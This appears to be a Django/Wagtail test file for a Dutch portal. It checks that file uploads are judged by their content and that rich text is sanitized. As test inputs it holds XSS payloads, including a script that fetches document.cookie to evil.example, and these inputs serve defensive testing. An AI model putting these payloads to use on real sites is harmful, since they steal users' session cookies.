"""Uploads are judged by their bytes, not their names (core.uploads, core.forms.SafeDocumentForm), and text from
forms is cleaned to the few tags the portal uses (core.sanitize)."""

import io
import re
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image as PILImage
from wagtail.documents.models import Document
from wagtail.models import Collection

from core import uploads
from core.roles import Role
from core.sanitize import clean_plain_text, clean_rich_text, rich_text_to_markup
from core.uploads import validate_document, validate_raster_image
from knowledgebase.models import BestPracticePage, KnowledgePage

MINIMAL_PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _docx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": (
                b'<?xml version="1.0" encoding="UTF-8"?>'
                b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                b'<Default Extension="xml" ContentType="application/xml"/>'
                b'<Override PartName="/word/document.xml" ContentType="application/'
                b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
            ),
            "word/document.xml": (
                b'<?xml version="1.0" encoding="UTF-8"?>'
                b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                b"<w:body><w:p><w:r><w:t>Protocol drugsdumping</w:t></w:r></w:p></w:body></w:document>"
            ),
        }
    )


def _png(size=(4, 3)) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", size, (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def _upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def _rejected(validator, upload) -> str:
    with pytest.raises(ValidationError) as excinfo:
        validator(upload)
    return " ".join(excinfo.value.messages)


# --- Documents -------------------------------------------------------------------------------------


def test_a_real_pdf_is_accepted():
    upload = _upload("protocol.pdf", MINIMAL_PDF)
    validate_document(upload)
    assert upload.read() == MINIMAL_PDF  # the validator leaves the file at its start


def test_a_real_docx_is_accepted():
    validate_document(_upload("protocol.docx", _docx()))


def test_plain_text_and_csv_are_accepted():
    validate_document(_upload("lijst.csv", b"gemeente;aantal\nHaarlem;3\n"))
    validate_document(_upload("notitie.txt", "Één regel tekst".encode()))


def test_html_named_pdf_is_refused():
    message = _rejected(validate_document, _upload("protocol.pdf", HTML_PAGE))
    assert "Dit bestand is geen echt .pdf-bestand" in message


def test_a_random_zip_named_docx_is_refused():
    message = _rejected(validate_document, _upload("protocol.docx", _zip({"readme.txt": b"niets"})))
    assert "Dit bestand is geen echt .docx-bestand" in message


def test_a_pdf_named_docx_is_refused():
    assert "geen echt .docx-bestand" in _rejected(validate_document, _upload("protocol.docx", MINIMAL_PDF))


def test_an_exe_is_refused():
    message = _rejected(validate_document, _upload("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00"))
    assert "Bestanden van het type .exe zijn niet toegestaan" in message


def test_a_binary_named_txt_is_refused():
    assert "geen echt .txt-bestand" in _rejected(validate_document, _upload("notitie.txt", b"MZ\x00\x00\x01"))


def test_a_file_over_the_size_limit_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_DOCUMENT_BYTES", 100)
    message = _rejected(validate_document, _upload("protocol.pdf", MINIMAL_PDF + b" " * 100))
    assert "Het bestand is te groot" in message and "Het maximum is 100" in message
    validate_document(_upload("klein.pdf", b"%PDF-1.4\n%%EOF\n"))


# --- Images ----------------------------------------------------------------------------------------


def test_a_png_is_accepted():
    upload = _upload("erf.png", _png())
    validate_raster_image(upload)
    assert upload.read(8) == b"\x89PNG\r\n\x1a\n"


def test_an_svg_named_png_is_refused():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="4" height="3"/></svg>'
    message = _rejected(validate_raster_image, _upload("erf.png", svg))
    assert "Dit is geen afbeelding die we kunnen gebruiken" in message


def test_a_png_named_jpg_is_refused():
    message = _rejected(validate_raster_image, _upload("erf.jpg", _png()))
    assert "De bestandsnaam past niet bij de inhoud: dit is een PNG-afbeelding" in message


def test_an_image_over_the_size_limit_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_IMAGE_BYTES", 10)
    assert "Het bestand is te groot" in _rejected(validate_raster_image, _upload("erf.png", _png()))


# --- The Wagtail admin uses the checked form -------------------------------------------------------


@pytest.fixture
def secretariat_client(client, make_user, login_with_mfa):
    return login_with_mfa(client, make_user(Role.SECRETARIAT, district=None))


def _admin_upload(client, name: str, content: bytes):
    return client.post(
        "/beheer/documents/add/",
        {
            "title": "Protocol",
            "file": _upload(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
    )


@pytest.mark.django_db
def test_admin_upload_of_html_named_pdf_is_refused(secretariat_client, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    response = _admin_upload(secretariat_client, "protocol.pdf", HTML_PAGE)
    assert response.status_code == 200
    assert "Dit bestand is geen echt .pdf-bestand" in response.text
    assert not Document.objects.exists()
    assert not list(tmp_path.rglob("*.pdf"))


@pytest.mark.django_db
def test_admin_upload_of_a_real_pdf_is_stored(secretariat_client, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    response = _admin_upload(secretariat_client, "protocol.pdf", MINIMAL_PDF)
    assert response.status_code == 302
    assert Document.objects.get().title == "Protocol"


@pytest.mark.django_db
def test_admin_multiple_upload_of_html_named_pdf_is_refused(secretariat_client, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    response = secretariat_client.post(
        "/beheer/documents/multiple/add/",
        {"files[]": _upload("protocol.pdf", HTML_PAGE), "collection": Collection.get_first_root_node().pk},
        headers={"x-requested-with": "XMLHttpRequest"},
    )
    assert "Dit bestand is geen echt .pdf-bestand" in response.text
    assert not Document.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name,content",
    [
        ("erf.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("erf.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("erf.jpg", _png()),
    ],
)
def test_admin_image_upload_refuses_what_is_not_what_it_claims(secretariat_client, settings, tmp_path, name, content):
    from wagtail.images.models import Image

    settings.MEDIA_ROOT = str(tmp_path)
    response = secretariat_client.post(
        "/beheer/images/add/",
        {"title": "Erf", "file": _upload(name, content), "collection": Collection.get_first_root_node().pk},
    )
    assert response.status_code == 200
    assert not Image.objects.exists()


@pytest.mark.django_db
def test_admin_image_upload_of_a_real_png_is_stored(secretariat_client, settings, tmp_path):
    from wagtail.images.models import Image

    settings.MEDIA_ROOT = str(tmp_path)
    response = secretariat_client.post(
        "/beheer/images/add/",
        {"title": "Erf", "file": _upload("erf.png", _png()), "collection": Collection.get_first_root_node().pk},
    )
    assert response.status_code == 302
    assert Image.objects.get().title == "Erf"


# --- Rich text -------------------------------------------------------------------------------------

DIRTY = (
    '<p onclick="steal()" style="color:red">Hallo <b>vet</b> <i>schuin</i> '
    '<a href="https://www.veiligbuitengebied.nl/" onmouseover="x()">goed</a> '
    '<a href="javascript:alert(1)">js</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a> '
    '<a href="JaVaScRiPt:alert(2)">js2</a></p>'
    "<script>alert('xss')</script>"
    '<iframe src="https://evil.example/"></iframe>'
    '<img src="x" onerror="alert(3)">'
    "<style>body{display:none}</style>"
    "<!-- commentaar -->"
)


def test_clean_rich_text_removes_everything_dangerous():
    cleaned = clean_rich_text(DIRTY)
    lowered = cleaned.lower()
    for forbidden in (
        "<script",
        "alert(",
        "onclick",
        "onmouseover",
        "onerror",
        "javascript:",
        "data:",
        "<iframe",
        "evil.example",
        "style",
        "<img",
        "display:none",
        "commentaar",
    ):
        assert forbidden not in lowered, forbidden


def test_clean_rich_text_keeps_the_tags_the_portal_uses():
    cleaned = clean_rich_text(DIRTY)
    assert cleaned.startswith("<p>")
    assert "<b>vet</b>" in cleaned and "<i>schuin</i>" in cleaned
    assert '<a href="https://www.veiligbuitengebied.nl/" rel="noopener noreferrer">goed</a>' in cleaned
    assert ">js</a>" in cleaned  # the link text stays, without its href
    html = "<h2>Kop</h2><ul><li>een</li></ul><p>tekst<br>regel <strong>sterk</strong> <em>nadruk</em></p>"
    assert clean_rich_text(html) == html
    assert clean_rich_text('<a href="mailto:info@example.nl">mail</a>') == (
        '<a href="mailto:info@example.nl" rel="noopener noreferrer">mail</a>'
    )


def test_plain_markup_becomes_headings_lists_and_paragraphs():
    markup = "## Wat we deden\n\n- erven bezocht\n- panden bekeken\n\nEerste regel\ntweede regel\n\n\nLaatste alinea"
    assert clean_rich_text(markup) == (
        "<h2>Wat we deden</h2>"
        "<ul><li>erven bezocht</li><li>panden bekeken</li></ul>"
        "<p>Eerste regel<br>tweede regel</p>"
        "<p>Laatste alinea</p>"
    )


def test_plain_markup_is_escaped():
    assert clean_rich_text("5 < 7 & 9 > 8") == "<p>5 &lt; 7 &amp; 9 &gt; 8</p>"
    assert clean_rich_text("\r\n  \r\n") == ""


def test_rich_text_to_markup_round_trips():
    markup = "## Wat we deden\n\n- erven bezocht\n- panden bekeken\n\nEerste regel\ntweede regel\n\nLaatste & beste"
    html = clean_rich_text(markup)
    assert rich_text_to_markup(html) == markup
    assert clean_rich_text(rich_text_to_markup(html)) == html


def test_rich_text_to_markup_keeps_link_targets_as_text():
    markup = rich_text_to_markup('<p>Zie <a href="https://example.nl/">de site</a>.</p>')
    assert markup == "Zie de site (https://example.nl/)."


def test_a_heading_line_directly_followed_by_text():
    """The help text: a *line* that begins with ## is a heading, so the text under it stays text."""
    assert clean_rich_text("## Wat we deden\nWe bezochten twaalf erven.") == (
        "<h2>Wat we deden</h2><p>We bezochten twaalf erven.</p>"
    )


def test_clean_plain_text_strips_every_tag():
    assert clean_plain_text("<b>Vet</b> &amp; <script>alert(1)</script>klaar") == "Vet & klaar"


# --- A partner's contribution is stored cleaned ----------------------------------------------------


@pytest.mark.django_db
def test_a_contribution_is_stored_cleaned(client, make_user):
    partner = make_user(Role.PARTNER, district="KEN")
    client.force_login(partner)
    response = client.post(
        "/bijdragen/nieuw/",
        {
            "kind": "best_practice",
            "title": "Samen <b>erven</b> bezoeken",
            "intro": "Wat werkte <script>alert(1)</script>in Haarlem.",
            "text": (
                '<p onclick="steal()">Wij gingen <b>samen</b> langs. '
                '<a href="javascript:alert(document.cookie)">Klik</a> '
                '<a href="https://www.politie.nl/">Politie</a></p>'
                "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
            ),
            "submit": "1",
        },
    )
    assert response.status_code == 302 and response["Location"] == "/bijdragen/"

    page = BestPracticePage.objects.get(owner=partner)
    assert not page.live
    assert page.title == "Samen erven bezoeken"
    assert page.intro == "Wat werkte in Haarlem."
    source = page.body[0].value.source
    assert "<b>samen</b>" in source and 'href="https://www.politie.nl/"' in source
    for forbidden in ("<script", "javascript:", "onclick", "evil.example", "document.cookie"):
        assert forbidden not in source, forbidden

    revision_json = str(KnowledgePage.objects.get(pk=page.pk).latest_revision.content)
    for forbidden in ("<script", "javascript:", "onclick", "evil.example"):
        assert forbidden not in revision_json, forbidden


@pytest.mark.django_db
def test_a_contribution_of_only_dangerous_markup_is_refused(client, make_user):
    client.force_login(make_user(Role.PARTNER, district="KEN"))
    response = client.post(
        "/bijdragen/nieuw/",
        {"kind": "lesson", "title": "Leeg", "intro": "Niets", "text": "<script>alert(1)</script>", "submit": "1"},
    )
    assert response.status_code == 200
    assert "na het opschonen bleef er niets over" in response.text
    assert not KnowledgePage.objects.filter(title="Leeg").exists()


def _through_the_cms_editor(html: str) -> str:
    """What the body's text block holds after the secretariat opens and saves it in the Wagtail editor."""
    widget = BestPracticePage._meta.get_field("body").stream_block.child_blocks["paragraph"].field.widget
    return widget.value_from_datadict({"text": widget.format_value(html)}, {}, "text")


def test_the_cms_editor_keeps_bold_lists_and_links_of_a_contribution():
    html = clean_rich_text('<p>Wij <b>samen</b> <a href="https://www.politie.nl/">Politie</a></p><ul><li>een</li></ul>')
    edited = _through_the_cms_editor(html)
    assert "<b>samen</b>" in edited and "<li" in edited and 'href="https://www.politie.nl/"' in edited


def test_a_contribution_heading_survives_the_cms_editor():
    html = clean_rich_text("## Wat ging goed\n\nWe werkten samen.")
    edited = _through_the_cms_editor(html)
    assert re.search(r"<h[23][^>]*>Wat ging goed</h[23]>", edited), edited
